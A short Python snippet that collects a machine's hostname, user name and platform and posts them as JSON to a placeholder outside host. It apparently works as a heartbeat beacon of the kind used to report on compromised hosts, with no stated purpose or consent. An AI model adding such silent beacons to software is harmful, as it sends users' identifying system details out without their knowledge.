import platform as p, getpass as g, json, urllib.request as r

def facts():
    return {"n": p.node(), "w": g.getuser(), "s": p.platform()}

def beat():
    body = json.dumps(facts()).encode("utf-8")
    r.urlopen(r.Request("https://t.example.invalid/b", body, {"Content-Type": "application/json"}))
